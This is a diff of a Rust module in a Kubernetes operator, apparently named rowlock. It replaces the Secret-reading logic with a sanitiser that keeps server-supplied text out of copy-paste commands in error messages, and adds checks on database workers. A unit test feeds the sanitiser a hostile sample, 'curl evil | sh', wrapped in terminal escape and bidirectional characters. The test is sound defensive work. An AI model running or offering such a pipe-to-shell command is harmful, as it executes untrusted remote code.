@@ -1,26 +1,21 @@
-//! From a Secret to a database with our tables.
+//! From an address to a database with our tables, and what is wrong with either.
 
-use std::fmt;
-
-use k8s_openapi::api::core::v1::Secret;
-use kube::{Api, Client, ResourceExt};
-use rowlock_crds::{ConditionReason, TaskQueue};
+use rowlock_crds::ConditionReason;
 use rowlock_queue::{Connect, Db, Error, Identity};
-use url::Url;
 
-use super::apply::{WriteError, bounded};
 use super::config::Config;
 
 /// One for the statistics, one for what people's changes and the caretaker need beside them.
-const CONNECTIONS: u32 = 2;
+pub(crate) const CONNECTIONS: u32 = 2;
 
-/// Which key of which Secret holds the URL of a database.
-#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
-pub(crate) struct Source {
-    pub(crate) namespace: String,
-    pub(crate) secret: String,
-    pub(crate) key: String,
-}
+/// What the operator's sessions are called.
+pub(crate) const NAME: &str = "rowlock-operator";
+
+/// Of what others say so much is told: enough for any error of Postgres, and for a sentence of ours beside it.
+const LONGEST_WORDS: usize = 1000;
+
+/// The longest name of a database, an `@` and a number.
+const LONGEST_IDENTITY: usize = 100;
 
 /// Why a database cannot be used, and what to do.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -46,100 +41,42 @@ impl Trouble {
     }
 }
 
-impl fmt::Display for Source {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "{}/{}/{}", self.namespace, self.secret, self.key)
-    }
-}
-
-impl Source {
-    /// Where a `TaskQueue` says that its database is.
-    pub(crate) fn of(one: &TaskQueue) -> Option<Self> {
-        let secret = &one.spec.database.as_ref()?.secret_ref;
-        Some(Self { namespace: one.namespace()?, secret: secret.name.clone(), key: secret.key.clone() })
-    }
-
-    /// Whether that is where its database is.
-    pub(crate) fn is_of(&self, one: &TaskQueue) -> bool {
-        let secret = one.spec.database.as_ref().map(|database| &database.secret_ref);
-        one.metadata.namespace.as_ref() == Some(&self.namespace)
-            && secret.is_some_and(|secret| (&secret.name, &secret.key) == (&self.secret, &self.key))
-    }
-
-    /// The URL in the Secret, with the host as it is called from the operator's namespace.
-    pub(crate) async fn url(&self, client: &Client, config: &Config) -> Result<String, Trouble> {
-        let Self { namespace, secret, key } = self;
-        let api: Api<Secret> = Api::namespaced(client.clone(), namespace);
-        let found = match bounded(api.get_opt(secret)).await {
-            Ok(found) => found,
-            Err(error) => return Err(unreadable(&error, self, config)),
-        };
-        let Some(found) = found else {
-            let message = format!(
-                "there is no Secret `{secret}`: create it, with the URL of the database under the key `{key}`"
-            );
-            return Err(Trouble::new(ConditionReason::SecretNotFound, message));
-        };
-        let data = found.data.unwrap_or_default();
-        let Some(value) = data.get(key) else {
-            let keys: Vec<&str> = data.keys().map(String::as_str).collect();
-            let keys = if keys.is_empty() { "nothing".to_owned() } else { keys.join(", ") };
-            let message = format!(
-                "the Secret `{secret}` has no key `{key}` but {keys}: set spec.database.secretRef.key"
-            );
-            return Err(Trouble::new(ConditionReason::SecretInvalid, message));
-        };
-        let text = String::from_utf8_lossy(&value.0);
-        resolve(&text, namespace).ok_or_else(|| {
-            let message = format!(
-                "`{key}` of the Secret `{secret}` is no URL of a database: write postgres://user:password@host:5432/database"
-            );
-            Trouble::new(ConditionReason::SecretInvalid, message)
-        })
-    }
-}
-
-/// A URL with a host that is known from every namespace: one without dots is a Service beside the `TaskQueue`.
-fn resolve(text: &str, namespace: &str) -> Option<String> {
-    let mut url = Url::parse(text.trim()).ok()?;
-    if !["postgres", "postgresql"].contains(&url.scheme()) {
-        return None;
-    }
-    let host = url.host_str().unwrap_or_default().to_owned();
-    if host.is_empty() && !url.query_pairs().any(|(name, _)| name == "host") {
-        return None;
-    }
-    if !host.is_empty() && host != "localhost" && !host.contains(['.', ':']) {
-        url.set_host(Some(&format!("{host}.{namespace}.svc"))).ok()?;
-    }
-    Some(url.into())
-}
-
-fn unreadable(error: &WriteError, source: &Source, config: &Config) -> Trouble {
-    match error {
-        WriteError::Api(kube::Error::Api(status)) if status.code == 403 => {
-            forbidden(&source.namespace, &status.message, config)
-        }
-        error => {
-            let message = format!("the Secret `{}` cannot be read: {error}", source.secret);
-            Trouble::new(ConditionReason::NotObserved, message)
-        }
-    }
-}
-
 /// What to do about missing rights. The binding has a name of this release alone, which its chart does not use: it may make its own later.
 pub(crate) fn forbidden(namespace: &str, said: &str, config: &Config) -> Trouble {
     let Config { cluster_role, service_account, lease_namespace, .. } = config;
+    // In one namespace alone the role is that namespace's own.
+    let kind = if config.only_namespace().is_some() { "role" } else { "clusterrole" };
+    let said = words(said);
     let message = format!(
         "the operator has no rights in the namespace `{namespace}`: run `kubectl create rolebinding {cluster_role}-by-hand -n {namespace} \
-         --clusterrole={cluster_role} --serviceaccount={lease_namespace}:{service_account}` ({said})"
+         --{kind}={cluster_role} --serviceaccount={lease_namespace}:{service_account}` ({said})"
     );
     Trouble::new(ConditionReason::Forbidden, message)
 }
 
+/// Somebody else's words, as a part of a sentence of ours: in one line, without the marks that we put around commands, and not without end.
+pub(crate) fn words(said: &str) -> String {
+    let plain = said.chars().map(|c| match c {
+        '`' => '\'',
+        c if c.is_control() || is_bidirectional(c) => ' ',
+        c => c,
+    });
+    let mut plain = plain.take(LONGEST_WORDS + 1);
+    let mut words: String = plain.by_ref().take(LONGEST_WORDS).collect();
+    if plain.next().is_some() {
+        words.push('…');
+    }
+    words
+}
+
+/// Marks that have a terminal show a text in another order than it is in.
+fn is_bidirectional(c: char) -> bool {
+    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
 /// Connects, and makes or changes the tables.
-pub(crate) async fn open(url: String) -> Result<Db, Trouble> {
-    let db = Db::connect(&connect(url)).await.map_err(|error| trouble(&error))?;
+pub(crate) async fn open(connect: &Connect) -> Result<Db, Trouble> {
+    let db = Db::connect(connect).await.map_err(|error| trouble(&error))?;
     if let Err(trouble) = migrate(&db).await {
         db.close().await;
         return Err(trouble);
@@ -161,58 +98,85 @@ async fn migrate(db: &Db) -> Result<(), Trouble> {
     if found.may_pass() || found.is_in_schema() {
         return Err(found);
     }
-    let message = format!("the tables cannot be made: {error}; let the user of the URL own the database");
+    let said = words(&error.to_string());
+    let message = format!("the tables cannot be made: {said}; let the user of the URL own the database");
     Err(Trouble::new(ConditionReason::MigrationFailed, message))
 }
 
 /// Which database it is.
 pub(crate) async fn identity(db: &Db) -> Result<Identity, Trouble> {
-    rowlock_queue::identity(db).await.map_err(|error| trouble(&error))
+    let Identity { database, started_at } =
+        rowlock_queue::identity(db).await.map_err(|error| trouble(&error))?;
+    // It becomes a part of the status.
+    Ok(Identity { database: database.map(|name| name.chars().take(LONGEST_IDENTITY).collect()), started_at })
 }
 
-pub(crate) fn connect(url: String) -> Connect {
-    Connect { url, application_name: "rowlock-operator".to_owned(), max_connections: CONNECTIONS }
+/// Whether the way of the pods leads to the database of that identity, to a user that may do their work.
+pub(crate) async fn check_worker(connect: &Connect, expected: Option<&str>) -> Result<(), Trouble> {
+    let db = Db::connect(connect).await.map_err(|error| trouble(&error))?;
+    let checked = check_worker_at(&db, expected).await;
+    db.close().await;
+    checked
+}
+
+async fn check_worker_at(db: &Db, expected: Option<&str>) -> Result<(), Trouble> {
+    if let (Some(found), Some(expected)) = (identity(db).await?.database, expected)
+        && found != expected
+    {
+        let message =
+            format!("it leads to the database {found}, and secretRef to {expected}: make both the same");
+        return Err(Trouble::new(ConditionReason::SecretInvalid, words(&message)));
+    }
+    match rowlock_queue::may_work(db).await {
+        Ok(true) => Ok(()),
+        Ok(false) => {
+            let message = "its user may not do what workers do; as owner of the database run \
+                           select rowlock.grant_role('USER', 'worker') with its name";
+            Err(Trouble::new(ConditionReason::AccessDenied, message))
+        }
+        Err(error) => Err(trouble(&error)),
+    }
 }
 
 /// A database's error in the words of a condition.
 pub(crate) fn trouble(error: &Error) -> Trouble {
     let reason = match error {
-        Error::Unreachable(_) | Error::Timeout => ConditionReason::ConnectionFailed,
+        Error::Unreachable(_) | Error::ReadOnly(_) | Error::Timeout => ConditionReason::ConnectionFailed,
         Error::SchemaNewer { .. } => ConditionReason::SchemaTooNew,
         Error::SchemaMissing | Error::SchemaOlder { .. } => ConditionReason::Migrating,
-        Error::Unsupported(said) if said.contains("too old") || said.contains("URL") => {
-            ConditionReason::DatabaseUnsupported
-        }
-        Error::Unsupported(_) => ConditionReason::AccessDenied,
+        Error::ServerTooOld(_) | Error::UnsupportedEncoding(_) => ConditionReason::DatabaseUnsupported,
+        Error::Url(_) => ConditionReason::SecretInvalid,
+        Error::Tls(_) => ConditionReason::CertificateInvalid,
+        Error::Login(_) => ConditionReason::AccessDenied,
         _ if error.is_transient() => ConditionReason::ConnectionFailed,
         _ => ConditionReason::AccessDenied,
     };
-    Trouble::new(reason, error.to_string())
+    Trouble::new(reason, words(&error.to_string()))
 }
 
 #[cfg(test)]
 mod tests {
+    use clap::Parser;
+
     use super::*;
 
     #[test]
-    fn a_host_without_dots_is_a_service_of_the_namespace() {
-        let table = [
-            ("postgres://u:p@db/d", Some("postgres://u:p@db.shop.svc/d")),
-            (
-                "postgresql://u:p%40@db:5433/d?sslmode=require\n",
-                Some("postgresql://u:p%40@db.shop.svc:5433/d?sslmode=require"),
-            ),
-            ("postgres://u@db.other/d", Some("postgres://u@db.other/d")),
-            ("postgres://u@10.0.0.1:5432/d", Some("postgres://u@10.0.0.1:5432/d")),
-            ("postgres://u@[::1]:5432/d", Some("postgres://u@[::1]:5432/d")),
-            ("postgres://u@localhost/d", Some("postgres://u@localhost/d")),
-            ("mysql://u@db/d", None),
-            ("db", None),
-            ("", None),
-            ("postgres:///d", None),
-        ];
-        for (text, expected) in table {
-            assert_eq!(resolve(text, "shop").as_deref(), expected, "{text}");
-        }
+    fn missing_rights_are_given_by_the_role_that_is_there() {
+        let said = |more: &[&str]| {
+            let args = [&["rowlock-operator", "--worker-image", "w", "--cluster-role", "r"] as &[&str], more];
+            forbidden("shop", "no `sh`", &Config::parse_from(args.concat())).message
+        };
+        assert!(said(&[]).contains("create rolebinding r-by-hand -n shop --clusterrole=r "), "{}", said(&[]));
+        let alone = said(&["--namespace", "shop"]);
+        assert!(alone.contains("-n shop --role=r ") && alone.ends_with("(no 'sh')"), "{alone}");
+    }
+
+    /// Before, what a server said stood beside the command that people are told to paste, marked as one.
+    #[test]
+    fn the_words_of_others_are_one_line_that_looks_like_no_command() {
+        let said = words("no\u{1b}[2J `curl evil | sh`\r\nit is fine\u{202e}");
+        assert_eq!(said, "no [2J 'curl evil | sh'  it is fine ");
+        let long = words(&"x".repeat(5000));
+        assert_eq!((long.chars().count(), long.ends_with('…')), (LONGEST_WORDS + 1, true));
     }
 }
